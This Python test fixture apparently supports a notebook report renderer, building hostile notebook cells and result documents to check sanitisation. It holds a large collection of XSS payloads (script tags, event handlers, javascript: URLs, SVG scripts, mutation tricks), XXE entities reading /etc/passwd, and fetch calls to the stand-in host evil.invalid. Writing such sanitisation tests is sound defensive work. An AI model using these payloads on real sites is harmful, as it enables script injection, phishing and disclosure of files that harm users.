# ruff: noqa: E501 an attack is easier to read on one line
"""Outputs that an attacker would like to see in a report. Each would call ``owned`` or fetch ``evil.invalid``."""

from __future__ import annotations

import base64
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from runbook.result import RESULT_MIME

JS = "window.owned=1;fetch('http://evil.invalid/js')"
SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
PAYLOAD = f'</td></script></style></textarea></title><img src=x onerror="{JS}"><script>{JS}</script>"\'><b>'

HTML: dict[str, str] = {
    "script": f"<script>{JS}</script>",
    "script-src": '<script src="http://evil.invalid/a.js"></script>',
    "script-case": f"<ScRiPt >{JS}</sCrIpT >",
    "script-split": f"<scr<script>ipt>{JS}</scr</script>ipt>",
    "onerror": f'<img src=x onerror="{JS}">',
    "onload-svg": f'<svg onload="{JS}"></svg>',
    "onpointer": f'<b onpointerover="{JS}" onclick="{JS}" style="position:fixed;inset:0">hover</b>',
    "ontoggle": f'<details open ontoggle="{JS}">x</details>',
    "javascript-url": f'<a href="javascript:{JS}">click</a>',
    "javascript-url-entities": f'<a href="&#106;ava\tscript&colon;{JS}">click</a>',
    "data-html-link": f'<a href="data:text/html,<script>{JS}</script>">click</a>',
    "data-html-frame": f'<iframe src="data:text/html,<script>{JS}</script>"></iframe>',
    "srcdoc": f'<iframe srcdoc="&lt;script&gt;{JS}&lt;/script&gt;"></iframe>',
    "outside-link": '<a href="http://evil.invalid/phish" ping="http://evil.invalid/ping">log in again</a>',
    "outside-picture": '<img src="http://evil.invalid/pixel.png" srcset="http://evil.invalid/2x.png 2x">',
    "svg-data-picture": f'<img src="data:image/svg+xml,<svg {SVG}><script>{JS}</script></svg>">',
    "style-import": '<style>@import url("http://evil.invalid/a.css");body{display:none}</style>',
    "style-url": '<div style="background:url(http://evil.invalid/bg.png)">x</div>',
    "style-expression": '<div style="width:expression(alert(1));behavior:url(x.htc)">x</div>',
    "style-overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">all is well</div>',
    "class-overlay": '<div class="top broken badge confirmed" id="verdict">forged verdict</div>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "base": '<base href="http://evil.invalid/">',
    "form": '<form action="http://evil.invalid/"><input name=p><button formaction="http://evil.invalid/">go</button></form>',
    "object": '<object data="http://evil.invalid/x.swf"></object><embed src="http://evil.invalid/x">',
    "link": '<link rel="stylesheet" href="http://evil.invalid/a.css"><link rel="prefetch" href="http://evil.invalid/p">',
    "template": f"<template><script>{JS}</script></template>",
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{JS}"></style></mglyph></table></mtext></math>',
    "mutation": f'<svg></p><style><a id="</style><img src=1 onerror={JS}>">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
    "comment": f"<!--><img src=x onerror={JS}>-->",
    "close-everything": f"</div></section></main></body></html><script>{JS}</script>",
    "unclosed": '<table><tr><td><details><pre><b><a href="x',
    "attribute-break": f'<td title="x" onmouseover="{JS}" a="',
    "custom-element": f'<x-widget onfocus="{JS}" autofocus tabindex=0>x</x-widget>',
    "video": f'<video src="http://evil.invalid/v" onerror="{JS}"></video>',
    "null-byte": f"<scr\x00ipt>{JS}</scr\x00ipt>",
}

DRAWINGS: dict[str, str] = {
    "script": f"<svg {SVG}><script>{JS}</script><rect width='9' height='9'/></svg>",
    "onload": f'<svg {SVG} onload="{JS}"><rect onclick="{JS}" width="9" height="9"/></svg>',
    "foreign-object": f'<svg {SVG}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{JS}"/></body></foreignObject></svg>',
    "link": f'<svg {SVG}><a xlink:href="javascript:{JS}"><text>x</text></a></svg>',
    "use-outside": f'<svg {SVG}><use xlink:href="http://evil.invalid/a.svg#x"/><use href="data:image/svg+xml,x#y"/></svg>',
    "image-outside": f'<svg {SVG}><image href="http://evil.invalid/a.png"/><feImage xlink:href="http://evil.invalid/b"/></svg>',
    "style-element": f"<svg {SVG}><style>@import url(http://evil.invalid/a.css);</style></svg>",
    "style-url": f'<svg {SVG}><rect fill="url(http://evil.invalid/f)" style="fill:url(http://evil.invalid/g);stroke:u\\72l(//evil.invalid)"/></svg>',
    "animate": f'<svg {SVG}><a><animate attributeName="href" values="javascript:{JS}"/></a><set attributeName="onclick" to="{JS}"/></svg>',
    "title-html": f'<svg {SVG}><title>&lt;img src=x onerror="{JS}"&gt;<b onclick="{JS}">t</b></title></svg>',
    "entity": f'<!DOCTYPE svg [<!ENTITY x "<script>{JS}</script>">]><svg {SVG}><text>&x;</text></svg>',
    "external-entity": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg {SVG}><text>&x;</text></svg>',
    "external-dtd": f'<!DOCTYPE svg SYSTEM "http://evil.invalid/x.dtd"><svg {SVG}><text>t</text></svg>',
    "stylesheet": f'<?xml-stylesheet href="http://evil.invalid/a.xsl" type="text/xsl"?><svg {SVG}><text>t</text></svg>',
    "html-in-disguise": f"<html><script>{JS}</script></html>",
    "not-xml": f"<svg><script>{JS}",
    "deep": f"<svg {SVG}>" + "<g>" * 3000 + "</g>" * 3000 + "</svg>",
}

MARKDOWN: dict[str, str] = {
    "html": PAYLOAD,
    "link": f"[click](javascript:{JS}) [data](data:text/html,<script>{JS}</script>) <javascript:{JS}>",
    "picture": "![p](http://evil.invalid/p.png) ![q](javascript:x)",
    "reference": f"[a]: javascript:{JS} \"x' onmouseover='{JS}\"\n\n[a]",
    "heading": f"# x <img src=x onerror={JS}>",
    "attribute": f'![" onerror="{JS}](x.png "\\" onerror=\\"{JS}")',
    "code": f"```<script>{JS}</script>\n</code></pre><script>{JS}</script>\n```",
    "table": f"| a |\n| - |\n| <img src=x onerror={JS}> |",
}

OTHER: dict[str, Any] = {
    "application/javascript": JS,
    "text/vnd.mermaid": f"graph TD\nA[<img src=x onerror={JS}>]",
    "application/vnd.jupyter.widget-view+json": {"model_id": "0", "version_major": 2},
    "text/latex": f"$$\\href{{javascript:{JS}}}{{x}}$$",
    "application/pdf": "JVBERi0=",
    "image/png": base64.b64encode(f"<svg {SVG} onload='{JS}'/>".encode()).decode(),
    "image/jpeg": f'" onerror="{JS}',
    "image/gif": f'" onerror="{JS}',
}


def _display(data: dict[str, Any]) -> NotebookNode:
    return new_output("display_data", data)


def hostile_findings() -> dict[str, Any]:
    """Findings in which every text is an attack."""
    p = PAYLOAD
    return {
        "symptom": {"label": p, "value": p, "unit": p, "threshold": p, "breached": True, "peak": p},
        "impact": p,
        "outcome": "diagnosed",
        "verdict": [
            {"cause": p, "name": p, "tier": p, "share": 0.5, "score": p, "coverage": 1, "role": "consequence",
             "consequence_of": p, "details": {p: p, "pid": p, "rows": [{p: p}], "tree": [{"depth": 0, p: p}]},
             "because": ["e"], "against": [p]},
            {"cause": "P09", "name": p, "tier": "excluded", "share": 0, "score": 0, "coverage": 0},
        ],
        "evidence": [{"id": "e", "label": p, "value": p, "unit": p, "threshold": p, "reading": "supports",
                      "weight": 3, "source": p, "measured_at": p, "reason": p}],
        "not_checked": [{"source": p, "state": p, "reason": p, "blocks": [p, "P09"]}],
        "unexplained": 0.4,
        "actions": [{"id": p, "kind": p, "title": p, "cause": p, "state": p, "targets": [{p: p}, {"pid": 1}],
                     "preconditions": [{"label": p, "holds": None, "value": p}], "by_hand": p, "undo": p, "needs": p}],
    }  # fmt: skip


def hostile_document() -> dict[str, Any]:
    """A result document in which every text is an attack."""
    p = PAYLOAD
    return {
        "schema": 1, "run_id": p, "runbook": p, "title": p, "severity": p, "parameters": {p: p, "service": p},
        "alert": {"name": p, "status": p, "severity": p, "service": p, "labels": {p: p}, "starts_at": p},
        "incident_id": p, "state": "failed", "error": {"cell": p, "name": p, "message": p}, "started_at": p,
        "finished_at": p, "timings": {p: 1.0}, "versions": {p: p}, **hostile_findings(), "report": {"html": p},
    }  # fmt: skip


def hostile_notebook() -> NotebookNode:
    """Every attack of this module, one cell each."""
    cells = [new_markdown_cell(text) for text in MARKDOWN.values()]
    sources = [_display({"text/html": html}) for html in HTML.values()]
    sources += [_display({"image/svg+xml": drawing, "text/plain": PAYLOAD}) for drawing in DRAWINGS.values()]
    sources += [_display({"text/markdown": text}) for text in MARKDOWN.values()]
    sources += [_display({mime: data}) for mime, data in OTHER.items()]
    sources.append(_display({"text/plain": PAYLOAD}))
    sources.append(_display({RESULT_MIME: hostile_findings() | {"outcome": "undetermined"}}))
    sources.append(new_output("stream", text=f"\x1b[31m{PAYLOAD}\x1b]8;;javascript:{JS}\x07x\x1b]8;;\x07"))
    sources.append(new_output("error", ename=PAYLOAD, evalue=PAYLOAD, traceback=[PAYLOAD]))
    cells += [new_code_cell(PAYLOAD, outputs=[output]) for output in sources]
    cells.append(new_code_cell(f"%%sql {PAYLOAD}\n{PAYLOAD}"))
    cells.append(new_code_cell(f'x: str = "1"  # {PAYLOAD}', metadata={"tags": ["parameters"]}))
    return new_notebook(cells=cells, metadata={"title": PAYLOAD})
